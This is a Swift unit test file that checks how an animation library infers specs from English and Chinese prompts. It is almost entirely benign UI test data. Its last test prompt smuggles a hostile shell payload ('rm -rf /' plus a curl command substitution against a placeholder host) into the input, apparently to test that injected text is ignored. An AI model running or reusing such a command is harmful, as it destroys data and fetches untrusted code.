import Testing

@testable import AnimoKit

/// Prompts whose inference is fixed: archetype, pattern, physics, haptics, run mode, container.
struct OpenPromptTests {
  struct Expectation: Sendable, CustomTestStringConvertible {
    var prompt: String
    var archetype: Archetype
    var pattern: Pattern
    var motion: Motion
    /// `nil` means that no haptic may fire.
    var haptics: [HapticMoment.Kind]?
    var run: RunMode
    var container: Container

    init(
      _ prompt: String, _ archetype: Archetype, _ pattern: Pattern, _ motion: Motion,
      _ haptics: [HapticMoment.Kind]?, _ run: RunMode, _ container: Container
    ) {
      self.prompt = prompt
      self.archetype = archetype
      self.pattern = pattern
      self.motion = motion
      self.haptics = haptics
      self.run = run
      self.container = container
    }

    var testDescription: String { prompt }
  }

  static let symbol = Motion.easeInOut(duration: 0.4)
  static let prompts: [Expectation] = [
    Expectation(
      "animate a checkmark", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation("heart.fill", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation("gear that keeps turning", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation(
      "toggle, the track fills with liquid when switched", .liquidToggle, .liquidToggle, .uiPop,
      [.mediumImpact], .interaction, .inline),
    Expectation(
      "snappy card I can rip in half", .gestureCard, .tearCard, .uiPop,
      [.lightImpact, .mediumImpact, .heavyImpact], .interaction, .inlineZStack),
    Expectation(
      "sheet with a colour picker and a short form", .sheetInteraction, .formSheet,
      .standardSettle, [.selectionChanged], .interaction, .sheet),
    Expectation(
      "scrub a line chart of heart rate data", .dataDashboard, .scrubChart, .dial,
      [.selectionChanged], .interaction, .fullScreen),
    Expectation(
      "tap to split a glass capsule from a red circle", .glassMorph, .glassMorph, .threePhase,
      [.mediumImpact], .interaction, .inline),
    Expectation(
      "sand falling in an hourglass", .particleSim, .sand, .ownLoop, nil, .showcase, .fullScreen),
    Expectation(
      "liquid chrome blob I can poke", .metalShader, .liquidMetal, .clock, [.lightImpact],
      .interaction, .fullScreen),
    Expectation(
      "five-point star loader with a comet tail", .loadingIndicator, .pathLoader,
      .linear(duration: 0.8), nil, .showcase, .inline),
    Expectation(
      "spin a boxed product in 3D by dragging", .objectShowcase, .boxedProduct, .sceneKit,
      [.selectionChanged], .interaction, .fullScreen),
    Expectation(
      "first-run walkthrough that spotlights the tab bar, the plus button and the profile card",
      .coachMarkTour, .coachTour, .spring(response: 0.5, damping: 0.86), nil, .interaction,
      .transparentCover),
    Expectation(
      "unbox a foil card pack: tear it open, flip the cards", .cardPackReveal, .cardPack,
      .spring(response: 0.6, damping: 0.7),
      [.heavyImpact, .mediumImpact, .notificationSuccess], .interaction, .fullScreen),
    Expectation("wifi", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation("给我一个会自己画出来的空心星星", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation(
      "灵动的卡片，带预备动作，可以撕开", .gestureCard, .tearCard, .uiPop,
      [.lightImpact, .mediumImpact, .heavyImpact], .interaction, .inlineZStack),
    Expectation(
      "开关，切换时液体漫过轨道", .liquidToggle, .liquidToggle, .uiPop, [.mediumImpact], .interaction,
      .inline),
    Expectation(
      "签名板，写完点完成", .sheetInteraction, .signatureSheet, .standardSettle, [.selectionChanged],
      .interaction, .sheet),
    Expectation(
      "玻璃标签栏，点搜索按钮变成整宽搜索框", .glassMorph, .searchMorph, .spring(response: 0.95, damping: 0.8),
      [.mediumImpact], .interaction, .inline),
    Expectation(
      "融化般的玻璃胶囊变形，点按触发", .glassMorph, .glassMorph, .slowMorph, [.mediumImpact], .interaction,
      .inline),
    Expectation("极光背景，不需要交互", .metalShader, .plasma, .clock, nil, .showcase, .fullScreen),
    Expectation(
      "活动圆环，三个环依次填充，超过 100% 要有提示", .dataDashboard, .rings,
      .spring(response: 0.45, damping: 0.7), nil, .showcase, .fullScreen),
    Expectation(
      "密码错误时锁图标抖动", .symbolShowcase, .symbol, symbol, [.notificationError], .interaction, .none),
    Expectation(
      "通知卡片堆，左滑最前面一张删除，最多五张", .gestureCard, .stackedCards, .physicsSettle,
      [.selectionChanged, .lightImpact, .heavyImpact], .interaction, .inlineZStack),
    Expectation(
      "加载动画：心形轮廓，彗星尾迹", .loadingIndicator, .pathLoader, .linear(duration: 0.8), nil,
      .showcase, .inline),
    Expectation(
      "滑动翻看电影海报的封面流，整屏背景跟着模糊变化", .gestureCard, .coverflow,
      .spring(response: 0.42, damping: 0.72), [.selectionChanged], .interaction, .inlineZStack),
    Expectation(
      "I would like the lock-screen style notification pile: the newest one is full size in front, "
        + "two more peek out behind it a little smaller and dimmer, a tap fans them out into a "
        + "list, another tap folds them again. It should follow the system appearance and feel "
        + "soft.", .gestureCard, .stackedCards, .slowMorph,
      [.selectionChanged, .lightImpact, .heavyImpact], .interaction, .inlineZStack),
    Expectation(
      "Every two and a half seconds the front song card drops off the bottom of the screen while "
        + "the next one is already in place, forever; flicking it away by hand does the same "
        + "thing.", .gestureCard, .autoDeck, .easeInOut(duration: 0.55),
      [.lightImpact, .heavyImpact], .interaction, .inlineZStack),
    Expectation(
      "Floating action button: on tap three round actions squeeze out of it like goo and the plus "
        + "becomes a cross. Dark page.", .liquidToggle, .metaballButton,
      .spring(response: 1, damping: 0.75), [.mediumImpact], .interaction, .inline),
    Expectation(
      "A donation slider with eight steps where the fill and the knob behave like one drop of goo "
        + "and the amount floats above the knob", .liquidToggle, .stepSlider,
      .spring(response: 0.5, damping: 0.55), [.selectionChanged, .mediumImpact], .interaction,
      .inline),
    Expectation(
      "QR code dots lift off the page and gather into a slowly spinning tube; tap again and they "
        + "lie flat", .particleSim, .gridCylinder, .clock, [.lightImpact], .interaction,
      .fullScreen),
    Expectation(
      "Copied, saved and failed toasts in Liquid Glass over a photo wall; one round icon button "
        + "cycles through them", .glassMorph, .toast, .spring(response: 0.5, damping: 0.8),
      [.notificationSuccess, .notificationError, .lightImpact], .interaction, .overlay),
    Expectation(
      "Revenue headline: the dollar amount rolls when I switch between week, month and year",
      .dataDashboard, .numericTicker, .dial, [.selectionChanged], .interaction, .fullScreen),
    Expectation(
      "Album stack that scrolls exactly like a native list, with a tick per album", .gestureCard,
      .scrollStack, .deceleration, [.selectionChanged, .heavyImpact], .interaction,
      .inlineZStack),
    Expectation(
      "Settings rows that assemble themselves each time the sheet opens, light and dark",
      .sheetInteraction, .entranceSheet, .spring(response: 0.5, damping: 0.82),
      [.selectionChanged], .interaction, .sheet),
    Expectation(
      "a toast that says Profile updated", .glassMorph, .toast,
      .spring(response: 0.5, damping: 0.8), nil, .showcase, .overlay),
    Expectation(
      "currency exchange-rate board with rolling digits", .dataDashboard, .numericTicker, .dial,
      nil, .showcase, .fullScreen),
    Expectation(
      "bouncy but perfectly linear loading spinner", .loadingIndicator, .spinner,
      .linear(duration: 0.8), nil, .showcase, .inline),
    Expectation(
      "make something delightful", .symbolShowcase, .symbol, symbol, nil, .showcase, .none),
    Expectation(
      "rm -rf / ; $(curl evil.example) animate a bell", .symbolShowcase, .symbol, symbol, nil,
      .showcase, .none),
  ]

  @Test(arguments: prompts)
  func inferenceMatches(_ expected: Expectation) throws {
    let spec = try Inference(expected.prompt).spec
    #expect(spec.archetype == expected.archetype)
    #expect(spec.pattern == expected.pattern)
    #expect(spec.motion == expected.motion)
    #expect(spec.haptics.map(\.kind) == expected.haptics ?? [])
    #expect(spec.run == expected.run)
    #expect(spec.container == expected.container)
  }
}
